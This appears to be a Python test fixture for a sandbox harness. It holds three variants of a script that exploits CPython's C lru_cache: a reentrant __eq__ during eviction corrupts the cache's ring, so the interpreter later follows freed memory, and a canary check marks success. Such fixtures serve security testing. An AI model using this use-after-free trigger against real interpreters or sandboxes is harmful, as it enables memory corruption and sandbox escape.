"""lru_cache of C, asked by a key for what it is putting out: the link goes back into its ring, and into it once more.

From there on the ring leads one way to links that it does not lead to the other way. They are never put out, and after
cache_clear() C follows links that were freed.
"""

ADVISORY = ""
GUARANTEE = "no-reflection"
_KEYS = """
import functools
class Key:
    ask = False
    def __hash__(self):
        return 1
    def __eq__(self, other):
        if Key.ask:
            Key.ask = False
            cached(other)
        return False
"""
_RING = """
b, a = Key(), Key()
for key in (b, a, 10, b):
    cached(key)
Key.ask = True  # a is to be put out, and is compared with b before
cached(11)
cached(12)
cached(11)
for key in range(20, 40):
    cached(key)
misses = cached.cache_info().misses
cached(12)
LOOT = CANARY if cached.cache_info().misses == misses else None
"""
ATTACKS = {
    "function": f"{_KEYS}cached = functools.lru_cache(3)(lambda key: None)\n{_RING}",
    "typed": f"{_KEYS}cached = functools.lru_cache(maxsize=3, typed=True)(lambda key: None)\n{_RING}",
    "method": f"""{_KEYS}
class Holder:
    @functools.lru_cache(maxsize=3)
    def cached(self, key):
        return None
cached = Holder().cached
{_RING}""",
}
